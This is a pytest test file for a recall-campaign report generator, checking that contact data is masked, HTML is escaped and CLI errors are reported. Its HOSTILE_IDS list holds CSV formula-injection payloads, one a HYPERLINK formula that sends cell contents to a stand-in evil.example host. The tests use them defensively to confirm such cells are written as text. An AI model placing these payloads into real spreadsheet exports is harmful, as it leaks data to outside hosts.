"""`recall report`: per-case outcomes with masked contact data and the summary metrics."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from pipeline.privacy.masking import mask_email, mask_phone
from pipeline.reporting.metrics import campaign_status
from pipeline.reporting.report import (
    FORMULA_STARTS,
    neutralise_formula,
    render_report,
    report_columns,
)
from tests import sched_data as data

PHONE, EMAIL = "+15557654321", "ada.lovelace@example.com"


@pytest.fixture
def filled(sqlite_engine: Engine) -> Iterator[tuple[Session, int]]:
    with Session(sqlite_engine, expire_on_commit=False) as session:
        campaign = data.campaign(session, name="Heater <recall> & co")
        person = data.recipient(session, phone=PHONE, email=EMAIL)
        agreed = data.case(
            session,
            campaign,
            person,
            state="completed",
            last_response="agree",
            answered_channel="sms",
            answered_step=0,
        )
        data.attempt(session, agreed, "sms", campaign.deadline, step=0)
        data.case(session, campaign, state="unreachable")
        session.commit()
        yield session, campaign.id


def test_csv_has_one_masked_row_per_case_and_the_summary(filled: tuple[Session, int]) -> None:
    session, campaign_id = filled
    text = render_report(session, campaign_id, "csv")
    assert PHONE not in text and EMAIL not in text
    table = [line for line in text.splitlines() if not line.startswith("#")]
    rows = list(csv.DictReader(io.StringIO("\n".join(table))))
    assert list(rows[0]) == report_columns()
    assert len(rows) == 2
    first = rows[0]
    # A masked phone starts with "+": written as text, not as a formula (see below).
    assert (first["phone"], first["email"]) == ("'" + mask_phone(PHONE), mask_email(EMAIL))
    assert (first["state"], first["last_response"], first["answered_step"]) == (
        "completed",
        "agree",
        "1",
    )
    assert first["attempts"] == "1" and rows[1]["attempts"] == "0"
    completion = campaign_status(session, campaign_id)["rates"]["completion"]
    assert f"# completion rate: {completion:.1%}" in text


HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
    sqlite_engine: Engine, hostile: str
) -> None:
    with Session(sqlite_engine, expire_on_commit=False) as session:
        campaign = data.campaign(session)
        data.case(session, campaign, data.recipient(session, external_id=hostile))
        session.commit()
        text = render_report(session, campaign.id, "csv")
    table = [line for line in text.splitlines() if not line.startswith("#")]
    (row,) = csv.DictReader(io.StringIO("\n".join(table)))
    assert row["external_id"] == "'" + hostile
    for cell in row.values():
        assert not cell.startswith(FORMULA_STARTS), cell


@given(st.text(max_size=30) | st.integers() | st.floats(allow_nan=False) | st.none())
def test_no_neutralised_cell_starts_a_formula_and_text_survives(cell: object) -> None:
    out = neutralise_formula(cell)
    if isinstance(cell, str):
        assert not str(out).startswith(FORMULA_STARTS)
        assert str(out).removeprefix("'") == cell or out == cell
    else:
        assert out is cell


def test_html_is_escaped_and_masked(filled: tuple[Session, int]) -> None:
    session, campaign_id = filled
    html = render_report(session, campaign_id, "html")
    assert "Heater &lt;recall&gt; &amp; co" in html and "<recall>" not in html
    assert PHONE not in html and mask_phone(PHONE) in html
    assert "completion rate" in html


def _recall(*args: str, db: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "RECALL_DATABASE_URL": f"sqlite:///{db}"}
    command = [str(Path(sys.executable).with_name("recall")), *args]
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)


def test_cli_writes_the_report_and_rejects_bad_input(
    filled: tuple[Session, int], sqlite_url: str, tmp_path: Path
) -> None:
    _, campaign_id = filled
    db = Path(sqlite_url.removeprefix("sqlite:///"))
    out = tmp_path / "report.html"
    done = _recall("report", str(campaign_id), "--format", "html", "--output", str(out), db=db)
    assert done.returncode == 0, done.stderr
    assert mask_phone(PHONE) in out.read_text()
    missing = _recall("report", "999", db=db)
    assert missing.returncode != 0 and "999" in missing.stderr
    bad = _recall("report", str(campaign_id), "--format", "pdf", db=db)
    assert bad.returncode != 0 and "pdf" in bad.stderr
